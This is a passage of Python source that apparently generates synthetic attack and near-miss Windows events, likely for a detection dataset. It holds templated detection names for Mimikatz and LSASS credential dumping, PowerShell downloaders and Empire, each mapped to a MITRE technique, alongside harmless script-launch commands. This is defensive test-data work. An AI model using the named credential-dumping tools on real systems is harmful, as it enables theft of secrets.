            "«Microsoft Windows Hardware Compatibility Publisher¦Realtek Semiconductor Corp.¦Intel Corporation»",
        ),
    ),
    (
        "script-host-child",
        process(
            f"{_S32}«cmd¦WindowsPowerShell\\v1.0\\powershell».exe",
            '«cmd.exe /c "C:\\Program Files\\‹Word›\\‹name›.cmd"¦powershell.exe -File "C:\\Program Files\\‹Word›\\‹name›.ps1"¦cmd.exe /c ver»',
            f"{_S32}wbem\\WmiPrvSE.exe",
        ),
    ),
)

_FOUND = (
    _found(
        "T1003.001",
        "«HackTool:Win32/Mimikatz.«D¦A¦I»¦Behavior:Win32/LsassDump.«A¦B»¦HackTool:Win64/DumpLsass.A¦HackTool:Win32/Dumplsass.«A¦D»»",
    ),
    _found(
        "T1059.001",
        "«Trojan:PowerShell/‹Word›.«A¦B»!ml¦TrojanDownloader:PowerShell/‹Word›.«A¦C»¦HackTool:PowerShell/Empire.«A¦E»»",
    ),
    _found(
        BENIGN,
        "«PUA:Win32/‹Word›¦Adware:Win32/‹Word›¦PUAAdvertising:Win32/‹Word›¦BrowserModifier:Win32/‹Word›¦Virus:DOS/EICAR_Test_File»",
    ),
)

ATTACK_TEMPLATES = tuple(EventTemplate(name, label, make) for name, label, make in _ATTACKS) + _FOUND[:2]
NEAR_MISS_TEMPLATES = tuple(EventTemplate(f"near-{name}", BENIGN, make) for name, make in _NEAR_MISSES) + _FOUND[2:]
